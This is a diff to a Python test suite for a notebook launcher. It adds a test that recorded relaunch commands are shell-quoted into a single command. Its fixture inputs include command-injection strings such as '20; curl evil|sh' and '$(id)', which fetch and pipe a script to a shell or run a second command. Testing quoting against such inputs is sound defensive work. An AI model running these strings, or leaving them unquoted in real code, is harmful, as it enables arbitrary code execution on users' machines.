@@ -160,6 +160,21 @@ def test_the_default_cluster_is_left_out_of_the_command_that_starts_the_same_aga
     assert cast(Any, session.shown[-1]).relaunch_command == f"launch-notebook{shown}"
 
 
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("-t 20; curl evil|sh", "-t '20;' curl 'evil|sh'"),
+        ("-t $(id)", "-t '$(id)'"),
+        ("-t '20", "'-t '\"'\"'20'"),
+        ("--comment='a b' -- tf-gpu", "'--comment=a b' -- tf-gpu"),
+    ],
+)
+def test_a_recorded_command_is_one_command(command: str, shown: str) -> None:
+    session = AttachedSession("20", command=command, launched_from="far-away")
+    session.begins(minutes=10)
+    assert cast(Any, session.shown[-1]).relaunch_command == f"on far-away: launch-notebook {shown}"
+
+
 def test_a_walltime_that_is_changed_is_noticed() -> None:
     session = AttachedSession()
     session.begins(110)
